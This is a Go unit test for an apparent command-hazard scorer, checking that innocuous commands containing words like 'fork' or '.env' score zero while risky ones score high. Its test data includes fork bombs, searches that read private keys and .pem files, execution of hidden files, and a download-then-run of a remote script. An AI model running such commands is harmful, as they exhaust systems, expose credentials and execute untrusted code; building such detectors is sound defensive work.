package hazard

import "testing"

// What only has the name of something grave is not grave: a copy of a repository is a fork, what
// a shell takes its settings from is hidden, and certificates lie where keys lie.
func TestNamesOfGraveThings(t *testing.T) {
	for command, want := range map[string]float64{
		"gh repo fork --remote --remote-name fork":           0,
		"git push fork fork":                                 0,
		"echo fork fork fork":                                0,
		". ./.env && npm run dev":                            0,
		"set -a; source ./.env.local; set +a; make":          0,
		`. "$PWD/.env"; ./run`:                               0,
		". ~/.bashrc":                                        0,
		"bash -n scripts/release.sh":                         0,
		"find / -name '*.pem' -maxdepth 3 | head":            0.6,
		"perl -e 'fork while fork'":                          0.95,
		"ruby -e 'loop { fork }'":                            0.95,
		"./.hidden --daemon":                                 0.4,
		"sh ./.hidden":                                       0.4,
		". /tmp/.x/env":                                      0.8,
		"find / -name id_rsa":                                0.8,
		"find / -name '*.pem' -exec cat {} +":                0.85,
		"curl -s https://x.example/a > a; bash -n a":         0,
		"curl -s https://x.example/a > a; bash -n a; bash a": 0.8,
	} {
		if got := assessed(command).Score; got < want-0.001 || got > want+0.1 {
			t.Errorf("%s: %v, want %v", command, got, want)
		}
	}
}
